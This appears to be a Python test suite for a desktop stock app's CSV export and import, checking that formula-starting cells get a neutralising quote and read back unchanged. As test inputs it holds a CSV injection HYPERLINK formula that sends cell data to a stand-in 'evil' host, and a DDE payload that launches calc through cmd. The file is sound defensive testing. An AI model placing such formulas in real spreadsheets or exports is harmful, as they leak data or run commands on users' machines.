"""The app's CSV cells: formulas neutralised on the way out (OWASP's quote), the same values back in."""

from __future__ import annotations

import csv
import io
import re

from hypothesis import example
from hypothesis import given
from hypothesis import strategies as st

from backorder_desktop.domain.csv_cells import FORMULA_STARTS
from backorder_desktop.domain.csv_cells import csv_text
from backorder_desktop.domain.csv_cells import escape_cell
from backorder_desktop.domain.csv_cells import unescape_cell
from backorder_desktop.domain.feed_parsing import parse_feed
from backorder_desktop.domain.stock_policy import STOCK_MAX
from backorder_desktop.domain.stock_policy import STOCK_MIN

PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
HOSTILE = '=HYPERLINK("http://evil/"&A1,"x")'


def test_formulas_get_a_quote_and_plain_numbers_do_not() -> None:
    assert escape_cell(HOSTILE) == "'" + HOSTILE
    assert [escape_cell(s) for s in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-1e5")] == [
        "'+1+1",
        "'-2+3",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
        "'-1e5",
    ]
    assert [escape_cell(s) for s in ("-3", "+12", "-0.5", "ABC-1", "")] == ["-3", "+12", "-0.5", "ABC-1", ""]
    assert escape_cell("'abc") == "''abc"


def test_reading_back_removes_only_the_escape_quote() -> None:
    assert unescape_cell("'" + HOSTILE) == HOSTILE
    assert unescape_cell("'-3") == "-3"  # a tool that quotes every such cell, numbers included
    assert unescape_cell("''abc") == "'abc"
    assert unescape_cell("'abc") == "'abc"  # typed by hand: kept
    assert unescape_cell("=1+1") == "=1+1"


@given(st.text())
@example("'")
@example("''=")
@example("-3")
def test_any_string_comes_back_unchanged(value: str) -> None:
    assert unescape_cell(escape_cell(value)) == value


@given(st.text())
def test_an_escaped_cell_never_starts_a_formula(value: str) -> None:
    cell = escape_cell(value)
    assert not cell.startswith(FORMULA_STARTS) or (cell == value and PLAIN_NUMBER.fullmatch(value))


_SKUS = st.tuples(st.sampled_from(["", "\t", "\r", "\r\n", "'", "=", "-", "@", "+"]), st.text()).map(
    lambda parts: parts[0] + parts[1].strip()
)


@given(_SKUS.filter(lambda sku: sku.strip() != ""), st.integers(STOCK_MIN, STOCK_MAX))
@example(HOSTILE, 3)
@example("\r=cmd|' /C calc'!A0", 0)
def test_a_file_the_app_wrote_reads_back_the_same_sku(sku: str, quantity: int) -> None:
    data = csv_text([["sku", "quantity"], [sku, quantity]]).encode()
    header, cells = csv.reader(io.StringIO(data.decode(), newline=""))
    assert header == ["sku", "quantity"]
    assert not cells[0].startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cells[0])

    report = parse_feed(
        data, format="csv", sku_field="sku", quantity_field="quantity", subject="file", escaped_cells=True
    )

    assert report.problems == ()
    assert [(row.sku, row.quantity) for row in report.rows] == [(sku, quantity)]


def test_the_erp_feed_reads_cells_as_they_are() -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["sku", "quantity"], ["'" + HOSTILE, "'+5"]])  # quoted by hand
    data = buffer.getvalue().encode()

    feed = parse_feed(data, format="csv", sku_field="sku", quantity_field="quantity")
    file = parse_feed(
        data, format="csv", sku_field="sku", quantity_field="quantity", subject="file", escaped_cells=True
    )

    assert feed.rows == ()
    assert [p.title for p in feed.problems] == ["Quantity not a number"]
    assert [(row.sku, row.quantity) for row in file.rows] == [(HOSTILE, 5)]


def test_a_quoted_negative_quantity_reads_as_negative() -> None:
    data = b"sku,quantity\nA-1,'-3\n"
    report = parse_feed(
        data, format="csv", sku_field="sku", quantity_field="quantity", subject="file", escaped_cells=True
    )
    assert [(row.sku, row.quantity) for row in report.rows] == [("A-1", -3)] and report.problems == ()
